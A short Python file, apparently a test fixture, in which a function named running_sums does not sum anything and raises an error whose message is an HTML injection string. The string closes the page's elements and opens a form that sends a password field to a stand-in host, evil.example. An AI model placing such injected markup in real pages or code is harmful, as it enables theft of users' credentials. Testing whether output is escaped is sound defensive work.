"""An error message closes the page's elements and opens a form.

Safe: shown as text
Control: acts in a page
"""

PAYLOAD = '</code></p></main></body><form action="https://evil.example"><input name=password>'


def running_sums(numbers):
    raise ValueError(PAYLOAD)
